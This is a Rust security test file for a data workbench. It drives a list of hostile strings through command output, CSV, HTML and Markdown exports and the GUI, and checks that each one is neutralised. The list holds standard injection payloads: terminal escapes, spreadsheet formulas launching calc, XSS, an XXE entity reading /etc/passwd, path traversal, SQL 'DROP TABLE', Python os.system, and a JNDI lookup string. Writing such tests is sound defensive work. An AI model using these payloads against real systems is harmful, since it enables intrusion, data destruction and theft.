//! Hostile content: texts made to act on whoever looks at them, in every value, key and name, through every way out. Each
//! attack is a test; docs/security-attacks.md tells of them.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;

use egui_kittest::kittest::{NodeT as _, Queryable as _, by};
use polars::prelude::*;
use serde_json::{Value, json};
use stedi_workbench::domain::{Format, Packaging, Partition, Progress, Recipe, Table, Windows};
use stedi_workbench::export::release::SideList;
use stedi_workbench::lakehouse::Kit;
use stedi_workbench::landing::Source;
use stedi_workbench::review::Trail;
use stedi_workbench::state::{Command, Shown};

use crate::export_support::{Home, LEARNING, Ready, by_owner, key, path, read_table_file, said, texts, tree};
use crate::support::{Window, checkout, sample_data, write};

/// Makes a test of each attack, and a list of all of them.
macro_rules! attacks {
    ($($name:ident: $text:expr,)*) => {
        const ATTACKS: &[&str] = &[$(stringify!($name)),*];
        $(#[test]
        fn $name() {
            withstands(&$text);
        })*
    };
}

attacks! {
    steers_a_terminal: "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31m",
    steers_a_terminal_by_one_byte_controls: "a\u{9b}2J\u{90}b\u{9d}0;owned\u{9c}\u{7f}",
    rubs_out_what_was_said: "invoice\u{8}\u{8}\u{8}\u{8}\r! All checks pass.",
    turns_the_direction_of_writing: "invoice\u{202e}gpj.exe",
    isolates_a_direction: "a\u{2066}b\u{2067}c\u{2068}d\u{2069}\u{200f}\u{61c}",
    hides_letters: "ad\u{200b}min\u{feff}\u{2060}\u{ad}\u{e0041}\u{e007f}",
    says_lines_of_the_program: "x\n! All checks pass.\r\nNothing was refused.\u{2028}Signed off by A. Name.",
    ends_a_text_early: "a\u{0}b",
    is_no_character: "a\u{fffe}b\u{ffff}",
    is_a_megabyte: "M".repeat(1 << 20),
    is_a_formula: "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
    is_a_formula_after_a_plus: "+1+cmd|' /C calc'!A0",
    is_a_formula_after_a_minus: "-2+3+cmd|' /C calc'!A0",
    is_a_formula_after_an_at: "@SUM(1+1)*cmd|' /C calc'!A0",
    is_a_formula_after_a_tab: "\t=1+1",
    is_a_formula_at_full_width: "＝1+1",
    leaves_its_cell: "a\",\"=1+1\",\"b\n=1+1",
    is_markup: "<img src=x onerror=alert(1)><svg onload=alert(1)>",
    ends_a_script_and_begins_one: "</title></style></script><script>alert(1)</script>",
    leaves_an_attribute: "\"' onmouseover='alert(1)' x=\"",
    is_an_entity: "&lt;script&gt;&#60;b&#62;&nbsp;",
    leaves_the_xml: "]]><!-- --><?xml version='1.0'?><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    is_markdown: "![b](http://example.invalid/b.png) [x](javascript:alert(1)) `code` | cell | *b*",
    is_a_header_of_yaml: "---\nlicense: mit\n- config_name: x\n---",
    leads_out_of_its_folder: "../../../etc/passwd",
    leads_to_another_place: "/etc/passwd",
    leads_out_by_the_other_slash: "..\\..\\..\\windows\\win.ini",
    is_a_name_of_hive: "customer=x",
    ends_a_text_of_sql: "'; DROP TABLE customer_landing; --",
    ends_a_text_of_sql_by_a_backslash: "\\'; DROP TABLE customer_landing; --",
    ends_an_identifier_of_sql: "\"`; DROP TABLE customer_landing; --",
    ends_a_text_of_python: "''' + __import__('os').system('id') + r'''",
    is_a_place_of_a_template: "@PLAN@@RECIPE@{{7*7}}${jndi:ldap://example.invalid}%s%n{}",
    leaves_its_json: "\",\"email\":\"somebody.else@example.com\",\"x\":\"\\",
}

/// Whether a character does something instead of being read.
fn acts(letter: char) -> bool {
    let is_unseen =
        "\u{ad}\u{61c}\u{200b}\u{200e}\u{200f}\u{2028}\u{2029}\u{2060}\u{feff}\u{fffe}\u{ffff}".contains(letter);
    letter.is_control()
        || is_unseen
        || ('\u{202a}'..='\u{202e}').contains(&letter)
        || ('\u{2066}'..='\u{2069}').contains(&letter)
        || ('\u{e0000}'..='\u{e007f}').contains(&letter)
}

/// What a text that is shown must not have in it. Lines and columns are those of the program.
fn is_tame(text: &str) -> bool {
    !text.contains(|letter| acts(letter) && !matches!(letter, '\n' | '\t'))
}

/// Whether a spreadsheet would run a cell: anything that begins with a sign and is not only digits.
fn is_armed(cell: &str) -> bool {
    let is_number = cell.chars().all(|letter| letter.is_ascii_digit() || "+-. ()".contains(letter));
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
        && !is_number
        && cell.parse::<f64>().is_err()
}

/// Whether a line says what only the program may say.
fn is_forged(text: &str) -> bool {
    text.lines().any(|line| {
        ["! All checks", "Nothing was refused", "Signed off", "=1+1"].iter().any(|start| line.starts_with(start))
    })
}

/// Landing files of a few people who walk at the same instants as their devices send. One of them is called `text` wherever
/// records have a text, and every record has a key of that name.
fn people(folder: &Path, text: &str) -> PathBuf {
    let landing = folder.join("landing");
    let (mut customers, mut motions, mut distances) = (vec![], vec![], vec![]);
    for person in 0..6_i64 {
        let own = |kind: &str| format!("{kind}.{person}@example.com");
        let is_hostile = person == 2;
        let value = |kind: &str| if is_hostile { text.to_owned() } else { own(kind) };
        customers.push(json!({
            "customerName": value("name"), "email": value("mail"), "phone": value("phone"), "birthDay": value("day"),
            "serialNumber": value("serial"), "registrationDate": 1_600_000_000_000_i64, "lastUpdateDate": 1_600_000_000_000_i64,
            "shareWithResearchAsOfDate": 1_600_000_000_000_i64, text: 1,
        }));
        for reading in 0..12 {
            let at = 1_650_000_000_000_i64 + person * 10_000_000 + reading * 100;
            motions.push(json!({ "user": value("mail"), "timestamp": at, "x": reading, "y": person, "z": 1 }));
            distances.push(
                json!({ "serialNumber": value("serial"), "sensorReadingTime": at, "distanceFromObject": reading }),
            );
        }
    }
    for (dataset, records) in [("customer", customers), ("accelerometer", motions), ("step_trainer", distances)] {
        let lines: String = records.iter().map(|record| format!("{record}\n")).collect();
        write(&landing, &format!("{dataset}/landing/a.json"), lines);
    }
    landing
}

/// The same people under decent names, in files and folders that are called `text` as far as a disk takes it; some cannot be
/// read, so that they are told of.
fn names(folder: &Path, text: &str) -> PathBuf {
    let landing = people(folder, "somebody.else@example.net");
    let mut name: String = text.chars().filter(|letter| !matches!(letter, '/' | '\0')).collect();
    if name.starts_with('.') {
        // What is hidden is passed over.
        name.insert(0, 'n');
    }
    while name.len() > 200 {
        name.pop();
    }
    let steps = landing.join("step_trainer/landing");
    fs::rename(steps.join("a.json"), steps.join(&name)).unwrap();
    write(
        &steps.join(format!("{name}~")),
        &format!("{name}.json"),
        "{\"sensorReadingTime\":1,\"serialNumber\":\"d\",\"distanceFromObject\":1}\n{\"sensorReadingTime\":1,",
    );
    write(&steps.join(format!("{name}~")), &format!("{name}.pdf"), "%PDF");
    write(&landing, &format!("customer/landing/{name}"), "junk");
    landing
}

/// What a command says, whatever its exit code is, as long as it ended by itself.
fn says(home: &Home, arguments: &[&str]) -> Output {
    let output = home.run(arguments);
    assert!(matches!(output.status.code(), Some(0..=2)), "{arguments:?}: {:?}", output.status);
    let said = said(&output);
    assert!(is_tame(&said), "{arguments:?} lets something act: {said:?}");
    assert!(!is_forged(&said), "{arguments:?} lets somebody else speak: {said}");
    if arguments.contains(&"--json") && output.status.code() != Some(2) {
        serde_json::from_slice::<Value>(&output.stdout).unwrap();
    }
    output
}

/// Every cell of a CSV file.
fn cells(bytes: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
    reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

/// That a text is not in another as it was written, if it has anything in it that must be written otherwise.
fn assert_escaped(name: &str, content: &str, text: &str, specials: &str) {
    if text.contains(|letter| specials.contains(letter)) {
        assert!(!content.contains(text), "{name} has it as it is");
    }
    assert!(is_tame(content), "{name} lets something act");
}

/// Markdown without what is code in it, and without what a backslash stands before.
fn without_code(page: &str) -> String {
    let outside = |part: &str| part.split('`').step_by(2).collect::<String>();
    let prose: String = page.split("```").step_by(2).map(outside).collect();
    let mut out = String::new();
    let mut letters = prose.chars();
    while let Some(letter) = letters.next() {
        if letter == '\\' {
            letters.next();
        } else {
            out.push(letter);
        }
    }
    out
}

/// A recipe that leaves out whoever is called so, where the program takes that as a name; what it refuses is in no recipe.
fn recipe_without(name: &str) -> Option<Recipe> {
    let refused_or_taken = serde_json::from_value(json!([name]));
    if let Err(error) = &refused_or_taken {
        assert_eq!(error.to_string(), "entry 1 of withdrawn is no e-mail address and no serial number");
    }
    Some(Recipe { withdrawn: refused_or_taken.ok()?, ..by_owner() })
}

/// Drives the text through every way out: as what records say, and as what files are called.
fn withstands(text: &str) {
    commands_are_not_steered(text);
    tables_hold_it_as_it_is(text);
    pages_show_it_as_text(text);
    a_recipe_keeps_it_out_of_code(text);
    the_window_shows_it_as_text(text);
}

fn commands_are_not_steered(text: &str) {
    for (make, is_in_records) in [(people as fn(&Path, &str) -> PathBuf, true), (names, false)] {
        let home = Home::new();
        let landing = make(&home.at(""), text);
        let recipe = write(&home.at(""), "recipe.json", recipe_without(text).unwrap_or_default().to_json());
        let before: BTreeSet<String> = tree(&home.at("")).into_keys().collect();
        let (landing, recipe) = (path(&landing), path(&recipe));
        let out = |name: &str| home.at("out").join(name);
        let device = if text.contains('\0') { "serial.0@example.com" } else { text };
        let device = &device[..device.len().min(100_000)];
        let mut all = vec![];
        for more in
            [vec!["count"], vec!["count", "--json"], vec!["count", "--cache"], vec!["review"], vec!["review", "--json"]]
        {
            all.push([&[more[0], landing], &more[1..], &["--join", "owner"]].concat());
        }
        let files =
            ["refused.csv", "report.html", "owners.csv", "zones", "plot.svg", "kit", "data", "list.csv"].map(out);
        let [refused, report, owners, zones, plot, kit, data, list] = files.each_ref().map(|file| path(file));
        all.push(vec!["count", landing, "--refused", refused, "--recipe", recipe]);
        let single =
            tree(Path::new(landing)).into_keys().find(|name| name.starts_with("step_trainer") && name.ends_with("~/"));
        let single = single.map(|name| {
            Path::new(landing).join(&name).join(name.split('/').nth_back(1).unwrap().replace('~', ".json"))
        });
        if let Some(single) = &single {
            // By itself its name is not below the name of a folder.
            all.push(vec!["count", path(single), "--refused", list]);
        }
        all.push(vec!["review", landing, "--report", report]);
        all.push(vec!["owners", landing, "--reveal", "--out", owners]);
        all.push(vec!["sql", landing, "SELECT * FROM customer_landing"]);
        all.push(vec!["curate", landing, "--out", zones, "--format", "csv"]);
        all.push(vec!["plot", landing, "--device", device, "--out", plot]);
        all.push(vec!["lakehouse", landing, "--recipe", recipe, "--out", kit]);
        let export = ["export", landing, "--join", "owner", "--tables", "all"];
        all.push([&export[..], &["--preview"]].concat());
        all.push([&export[..], &["--analyst", "A. Name", "--out", data]].concat());
        let listed = write(&home.at("lists"), "left.txt", text);
        all.push(vec!["verify", data, "--landing", landing]);
        all.push(vec!["withdraw", data, "--customers", path(&listed), "--dry-run"]);
        for arguments in all {
            fs::create_dir_all(home.at("out")).unwrap();
            let said = said(&says(&home, &arguments));
            // Short words of theirs are words of everybody.
            if is_in_records && text.len() > 8 && arguments[0] != "plot" {
                assert!(!said.contains(text), "{arguments:?} says what a record says");
            }
        }
        let lists = ["refused.csv", "owners.csv", "list.csv"];
        for name in lists.iter().filter(|name| **name != "list.csv" || single.is_some()) {
            let cells = cells(&fs::read(home.at("out").join(name)).unwrap());
            assert!(!cells.iter().any(|cell| is_armed(cell)), "{name}: {cells:?}");
        }
        let written = tree(&home.at("")).into_keys().filter(|name| !before.contains(name));
        let expected = ["out/", "lists/", "tmp/", "state/", "data/", "config/", ".cache/"];
        for name in written {
            assert!(expected.iter().any(|folder| name.starts_with(folder)) && is_tame(&name), "{name} was written");
        }
        assert!(!out("zones").join(text.trim_start_matches('/')).is_file());
    }
}

/// The rows of a table that was written for the house, by what stands in a column.
fn tables_hold_it_as_it_is(text: &str) {
    let folder = tempfile::tempdir().unwrap();
    let landing = people(folder.path(), text);
    let ready = Ready::of(&landing, &by_owner());
    let had = |frame: &DataFrame, text: &str| texts(frame, "email").iter().filter(|email| *email == text).count();
    let there = had(ready.curation.frame(Table::CustomerTrusted), text);
    assert_eq!(there, 1);
    for format in [Format::Parquet, Format::Arrow, Format::Ndjson, Format::Csv] {
        let out = folder.path().join(format.extension());
        stedi_workbench::export::write_tables(&ready.curation, &out, format, &Progress::default()).unwrap();
        let name = format!("customer_trusted.{}", format.extension());
        if format == Format::Csv {
            for (table, bytes) in tree(&out) {
                let cells = cells(&bytes);
                assert!(!cells.iter().any(|cell| is_armed(cell)), "{table}");
                let is_it = |cell: &&String| *cell == text || cell.strip_prefix('\'') == Some(text);
                let expected = if table.starts_with("customer") { 5 } else { 0 };
                assert!(cells.iter().filter(is_it).count() >= expected, "{table} lost something");
            }
        } else {
            assert_eq!(had(&read_table_file(&out, &name), text), 1, "{name}");
        }
    }
    // What leaves has pseudonyms, in files whose names depend on nothing that somebody wrote.
    let decent = tempfile::tempdir().unwrap();
    let other = Ready::of(&people(decent.path(), "somebody.else@example.net"), &by_owner());
    let kinds = |ready: &Ready, out: &Path| -> BTreeMap<String, usize> {
        let packaging = Packaging {
            partition: Partition::Device,
            tables: Table::derived().collect(),
            windows: Some(Windows { instants: 4, stride: 2, gap_ms: None }),
            format: Format::Csv,
            ..Packaging::default()
        };
        ready.export(&packaging, out);
        let mut kinds = BTreeMap::new();
        for (name, bytes) in tree(out) {
            let parts = name.split('/').map(|part| part.split('=').next().unwrap());
            *kinds.entry(parts.collect::<Vec<_>>().join("/")).or_default() += 1;
            assert!(!name.contains(text) && !String::from_utf8_lossy(&bytes).contains(text), "{name} names somebody");
            assert!(name.is_ascii() && !name.contains(".."), "{name}");
        }
        kinds
    };
    let hostile = kinds(&ready, &folder.path().join("out"));
    assert_eq!(hostile, kinds(&other, &decent.path().join("out")));
    assert!(hostile.keys().any(|name| name.starts_with(LEARNING)));
}

/// An export of files that are called so, or none because a name says who somebody is.
fn pages_show_it_as_text(text: &str) {
    let folder = tempfile::tempdir().unwrap();
    let mut ready = Ready::of(&names(folder.path(), text), &by_owner());
    // Reasons and names of analysts say the same, where the program takes that.
    let (mut trail, review) = (Trail::default(), &ready.review);
    for id in review.open(&trail) {
        let taken = trail.accept(review, id, text, text, 1);
        taken.or_else(|_| trail.accept(review, id, "A. Name", "for a test", 1)).unwrap();
    }
    trail.sign(review, text, 1).or_else(|_| trail.sign(review, "A. Name", 1)).unwrap();
    ready.trail = trail;
    let pages = |ready: &Ready, out: &Path| -> BTreeMap<String, String> {
        let prepared = ready.prepared(&Packaging::default(), &key(), &SideList::default()).unwrap();
        ready.try_export(&prepared, out, &Progress::default()).unwrap();
        let pages = tree(out).into_iter().filter(|(name, _)| !name.contains('/'));
        pages.map(|(name, bytes)| (name, String::from_utf8(bytes).unwrap())).collect()
    };
    let hostile = pages(&ready, &folder.path().join("out"));
    let decent = tempfile::tempdir().unwrap();
    let decent = pages(&Ready::of(&names(decent.path(), "decent"), &by_owner()), &decent.path().join("out"));
    assert_eq!(hostile.keys().collect::<Vec<_>>(), decent.keys().collect::<Vec<_>>());
    for (name, page) in &hostile {
        match name.rsplit('.').next().unwrap() {
            // What is parsed is the same tree, with another text in some places.
            "json" => drop(serde_json::from_str::<Value>(page).unwrap()),
            "html" => {
                assert_escaped(name, page, text, "<>&\"'");
                let tags = |page: &str| page.matches('<').count();
                assert_eq!(tags(page), tags(&decent[name]), "{name} has other tags");
            }
            "md" => {
                let (prose, other) = (without_code(page), without_code(&decent[name]));
                assert_escaped(name, &prose, text, "`|<[*\n");
                let marks = |page: &str| "|<[`#*!".chars().map(|mark| page.matches(mark).count()).collect::<Vec<_>>();
                assert_eq!(marks(&prose), marks(&other), "{name} has other marks");
                assert_eq!(page.lines().count(), decent[name].lines().count(), "{name} has other lines");
                let header = |page: &str| page.split("---\n").nth(1).unwrap().lines().count();
                assert_eq!(header(page), header(&decent[name]));
            }
            _ => assert!(is_tame(page) && !cells(page.as_bytes()).iter().any(|cell| is_armed(cell)), "{name}"),
        }
    }
    let manifest: Value = serde_json::from_str(&hostile["manifest.json"]).unwrap();
    for file in manifest["landing"].as_array().unwrap() {
        let name = file["name"].as_str().unwrap();
        assert!(is_tame(name) && !name.contains('\n') && !name.starts_with('/') && !name.contains("/../"), "{name:?}");
    }
}

/// A kit for other engines is the same whomever its recipe leaves out: nobody is in what runs there.
fn a_recipe_keeps_it_out_of_code(text: &str) {
    let (Some(hostile), Some(decent)) = (recipe_without(text), recipe_without("somebody.else@example.net")) else {
        return;
    };
    let code = |recipe: &Recipe| -> BTreeMap<String, String> {
        let kit = Kit::new(recipe, &[]);
        let of_recipe = kit.files.iter().find(|file| file.name == "recipe.json").unwrap();
        assert_eq!(Recipe::from_json(&of_recipe.text).as_ref(), Ok(recipe));
        let code = kit.files.iter().filter(|file| file.name != "recipe.json");
        // The job tells its recipe by a hash.
        let hash = |line: &&str| !line.contains("\"recipe_sha256\": \"");
        code.map(|file| (file.name.clone(), file.text.lines().filter(hash).collect::<Vec<_>>().join("\n"))).collect()
    };
    let (hostile, decent) = (code(&hostile), code(&decent));
    assert!(hostile.len() > 5 && hostile == decent);
}

fn the_window_shows_it_as_text(text: &str) {
    for make in [people as fn(&Path, &str) -> PathBuf, names] {
        let home = tempfile::tempdir().unwrap();
        let below: String = text.chars().filter(|letter| !matches!(letter, '/' | '\0')).take(60).collect();
        let place = home.path().join(below);
        fs::create_dir_all(&place).unwrap();
        let landing = make(&place, text);
        let mut window = Window::open_foreign(Source::Folder(place));
        window.wait("the tables", |state| state.work.is_none() && state.curation.value().is_some());
        let app = window.harness.state_mut();
        app.ask(Command::Reveal(true));
        app.ask(Command::OpenAny(vec![landing.join("not/there")]));
        for page in
            [Shown::Table(Table::CustomerLanding), Shown::Refused, Shown::Signals, Shown::Table(Table::CustomerTrusted)]
        {
            window.harness.state_mut().ask(Command::Show(page));
            window.harness.run_steps(2);
            window.wait("the page", |state| {
                state.work.is_none() && !state.look.is_loading() && !state.signals.lines.is_loading()
            });
            let mut shown = 0;
            for node in window.harness.get_all(by().predicate(|_| true)) {
                let node = node.accesskit_node();
                for words in [node.label(), node.value()].into_iter().flatten() {
                    assert!(is_tame(&words) && !is_forged(&words), "the window lets something act: {words:?}");
                    assert!(words.len() < 4_000, "the window shows {} bytes at once", words.len());
                    shown += 1;
                }
            }
            assert!(shown > 20);
        }
        assert!(window.harness.state().state().notices.iter().all(|notice| is_tame(&notice.text)));
    }
}

#[test]
fn the_list_of_attacks_has_each_test() {
    let text = fs::read_to_string(checkout().join("docs/security-attacks.md")).unwrap();
    let listed: Vec<&str> = text.lines().filter_map(|line| line.strip_prefix("| `")?.split('`').next()).collect();
    assert_eq!(listed, ATTACKS, "docs/security-attacks.md tells of other attacks than there are");
}

#[test]
fn honest_texts_are_written_as_they_are() {
    let folder = tempfile::tempdir().unwrap();
    let text = "Zoë O'Łuk-محمد नमस्ते +49 -1";
    let ready = Ready::of(&people(folder.path(), text), &by_owner());
    stedi_workbench::export::write_tables(&ready.curation, folder.path(), Format::Csv, &Progress::default()).unwrap();
    let cells = cells(&fs::read(folder.path().join("customer_trusted.csv")).unwrap());
    assert_eq!(cells.iter().filter(|cell| *cell == text).count(), 5);
    let landing = crate::curation::landing(&sample_data());
    assert!(landing.files.iter().all(|file| file.name.starts_with(|letter: char| letter.is_ascii_lowercase())));
}

/// An export that came from elsewhere, made to lead out of its folder or to hold its reader up.
#[test]
fn an_export_from_elsewhere_is_read_within_its_folder_and_never_waited_for() {
    let ready = Ready::sample();
    let home = Home::new();
    let out = home.at("data-set");
    ready.export(&Packaging { format: Format::Csv, ..Packaging::default() }, &out);
    let manifest = fs::read_to_string(out.join("manifest.json")).unwrap();
    let file = |name: &str| {
        let mut value: Value = serde_json::from_str(&manifest).unwrap();
        value["files"][0]["path"] = name.into();
        write(&out, "manifest.json", value.to_string());
        said(&says(&home, &["verify", path(&out)]))
    };
    write(&home.at(""), "secret", "x");
    for name in ["../secret", "/etc/passwd", "a/../../secret", "..\\secret", ""] {
        assert!(file(name).contains("names a file outside of it"), "{name}");
    }
    file("\u{1b}[2J\n! All checks pass.");
    write(&out, "manifest.json", &manifest);
    write(&out, "x\n! All checks pass.\u{1b}[2J", "stranger");
    assert!(said(&says(&home, &["verify", path(&out)])).contains("does not belong to it"));
    says(&home, &["diff", path(&out), path(&out)]);
    for name in ["README.md", "manifest.json"] {
        fs::remove_file(out.join(name)).unwrap();
        let made = std::process::Command::new("mkfifo").arg(out.join(name)).status().unwrap();
        assert!(made.success());
        says(&home, &["verify", path(&out)]);
    }
}
